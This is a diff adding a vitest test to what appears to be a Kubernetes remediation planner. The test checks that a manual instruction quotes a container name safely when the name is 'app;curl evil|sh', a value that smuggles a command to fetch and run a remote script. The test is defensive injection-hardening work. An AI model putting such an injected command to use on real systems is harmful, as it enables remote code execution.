@@ -1,4 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import { assess } from '../../../assess.ts';
+import { examine } from '../../../diagnose/rule.suite.ts';
+import { deployment, node, NOW, pod, replicaSet, state } from '../../../diagnose/scene.suite.ts';
+import { DEFAULT_POLICY } from '../../../policy/policy.ts';
+import { Planning } from '../../planning.ts';
 import {
   behaving,
   ref,
@@ -31,5 +36,19 @@ describe('ask-owner', () => {
   it('is what is left where nothing else is known', () => {
     const { strategy } = rehearsedOn(failing());
     expect(strategy.plan.phases.flatMap(({ actions }) => actions.map(({ kind }) => kind))).toEqual(['ask-owner']);
+  });
+
+  it('names a container that no API server takes in words that a shell takes for one', () => {
+    const name = 'app;curl evil|sh';
+    const status = state.waiting('CrashLoopBackOff', '', { name, restartCount: 12, ...state.last(1, 'Error') });
+    const objects = [
+      ...[node(), deployment(1, 0), replicaSet('web-1', 1, 0)],
+      pod('web-1-a', { containers: [{ name, image: 'web:1' }], statuses: [status] }),
+    ];
+    const { snapshot } = examine({ objects, observedAt: NOW });
+    const assessment = assess(snapshot, { version: 'test' });
+    const [remedy] = [...askOwner.propose(new Planning({ snapshot, assessment, policy: DEFAULT_POLICY }))];
+    const [change] = remedy?.drafts[0]?.changes ?? [];
+    expect(change?.kind === 'manual' && change.instruction).toContain("-c 'app;curl evil|sh' --previous");
   });
 });
